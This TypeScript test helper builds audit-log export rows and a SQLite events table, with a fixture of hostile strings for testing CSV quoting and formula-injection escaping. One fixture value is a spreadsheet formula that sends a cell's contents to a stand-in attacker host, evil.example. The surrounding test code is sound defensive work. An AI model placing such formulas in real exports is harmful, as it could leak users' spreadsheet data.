// Test helper: export rows built the way the store builds them, from records.
import Database from 'better-sqlite3';
import { createHash } from 'node:crypto';
import { canonicalize } from '../../shared/canonical';
import { deriveColumns } from '../../shared/derive';
import type { AuditRecord, JsonValue } from '../../shared/event';
import type { ExportRow } from '../../electron/export/rows';
import { storeTimeMicros } from '../../electron/store/timeMicros';

export function toExportRow(record: AuditRecord, seq: number): ExportRow {
  const canon = Buffer.from(canonicalize(record as unknown as JsonValue), 'utf8');
  const leaf = createHash('sha256')
    .update(Buffer.from([0]))
    .update(canon)
    .digest();
  const d = deriveColumns(record);
  return {
    seq,
    canon,
    leaf,
    event_id: record.id,
    ts: d.timestamp,
    actor_id: d.actorId,
    actor_type: d.actorType,
    action: d.action,
    category: d.category,
    entity_type: d.entityType,
    entity_id: d.entityId,
    entity_name: d.entityName,
    status: d.status,
    request_id: d.requestId,
    key_id: d.keyId,
  };
}

export function toExportRows(records: Iterable<AuditRecord>): ExportRow[] {
  const rows: ExportRow[] = [];
  for (const r of records) rows.push(toExportRow(r, rows.length + 1));
  return rows;
}

/** Records whose text trips every quoting and formula rule. */
export function nastyRecords(): AuditRecord[] {
  const values = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    '+1+2',
    '-2+3',
    '@SUM(A1:A9)',
    '\tindented',
    '\rcarriage',
    "'=already quoted",
    "''+twice",
    "'plain apostrophe",
    "'",
    'comma, inside',
    'quote " inside',
    'line\nbreak',
    'crlf\r\ninside',
    'ünïcödé ✓ 🎉',
    '-',
    ',leading comma',
    'trailing comma,',
    'unit\u001fseparator',
    'nul\u0000and bell\u0007',
    'bidi \u202e override',
    ' =space first',
    '=',
  ];
  return values.map((value, i) => ({
    id: `evt-${String(i).padStart(32, '0')}`,
    timestamp: `2026-03-02T10:00:${String(i).padStart(2, '0')}.000001Z`,
    actor: { id: i % 2 ? value : 'alice@example.com', type: 'user' },
    action: 'SIGNING_REQUESTED',
    entity: i % 3 ? { type: 'SigningRequest', id: `req-${i}`, name: value } : { type: 'SigningRequest', id: value },
    status: 'SUCCESS',
    details: {
      requestId: value,
      note: value,
      nested: { a: 1, entity: { x: '}', y: ['{', '"', '\\'] } },
      tricky: ',"details":{',
    },
  }));
}

/** A table shaped like the store's `events` (time as INTEGER microseconds), filled with `records` from seq 1; returns its path. */
export function writeEventsTable(path: string, records: Iterable<AuditRecord>): string {
  const db = new Database(path);
  db.exec(`CREATE TABLE events(seq INTEGER PRIMARY KEY, canon BLOB NOT NULL, leaf BLOB NOT NULL, event_id TEXT NOT NULL,
    ts INTEGER NOT NULL, actor_id TEXT NOT NULL, actor_type TEXT NOT NULL, action TEXT NOT NULL, category TEXT NOT NULL,
    entity_type TEXT NOT NULL, entity_id TEXT NOT NULL, entity_name TEXT, status TEXT NOT NULL, request_id TEXT, key_id TEXT)`);
  const insert = db.prepare(`INSERT INTO events VALUES (@seq, @canon, @leaf, @event_id, @ts, @actor_id, @actor_type,
    @action, @category, @entity_type, @entity_id, @entity_name, @status, @request_id, @key_id)`);
  let seq = 0;
  db.transaction(() => {
    // The time as the store holds it since migration 0006: INTEGER microseconds.
    for (const record of records) {
      const row = toExportRow(record, ++seq);
      insert.run({ ...row, ts: storeTimeMicros(row.ts) });
    }
  })();
  db.close();
  return path;
}
